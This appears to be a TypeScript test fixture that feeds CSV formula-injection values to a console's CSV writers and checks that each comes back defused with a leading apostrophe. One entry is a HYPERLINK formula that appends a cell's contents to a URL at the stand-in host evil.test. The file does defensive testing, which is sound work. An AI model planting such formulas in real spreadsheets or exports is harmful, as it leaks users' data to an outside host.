/**
 * Values that a spreadsheet would run as a formula, or that would break a CSV record, with the
 * cell a spreadsheet must read back for each. Every CSV the console writes is fed the same ones:
 * the writer itself (lib/csv), the table kit's exports, the audit log's and the bank file.
 */
import Papa from 'papaparse';

export interface HostileValue {
  value: string;
  /** The cell read back: a formula defused with a leading apostrophe, the rest as written. */
  cell: string;
  /** The bank file's cell: on one line (a line break becomes a space), then defused. */
  bankCell: string;
}

const hostile = (value: string, cell = value, bankCell = cell): HostileValue => ({ value, cell, bankCell });

export const HOSTILE_VALUES: readonly HostileValue[] = [
  hostile('=HYPERLINK("http://evil.test/?"&A1,"open")', `'=HYPERLINK("http://evil.test/?"&A1,"open")`),
  hostile('=2+5\n+1', "'=2+5\n+1", "'=2+5 +1"),
  hostile('+66 81 234 5678', "'+66 81 234 5678"),
  hostile('-2+3', "'-2+3"),
  hostile('@SUM(A1:A9)', "'@SUM(A1:A9)"),
  hostile('\t=1+1', "'\t=1+1", "'=1+1"),
  hostile('\r\n=1+1', "'\r\n=1+1", "'=1+1"),
  hostile('Sea, Sand "Sun"'),
  hostile('line one\r\nline two', 'line one\r\nline two', 'line one line two'),
  hostile('บ้าน\nสวน', 'บ้าน\nสวน', 'บ้าน สวน'),
];

/**
 * A CSV file as a spreadsheet reads it: its records, each a list of cells, after checking the
 * byte order mark and the CRLF that ends the last record.
 */
export function readCsv(file: string): string[][] {
  expect(file.startsWith('\uFEFF')).toBe(true);
  expect(file.endsWith('\r\n')).toBe(true);
  const parsed = Papa.parse<string[]>(file.slice(1, -2), { newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}
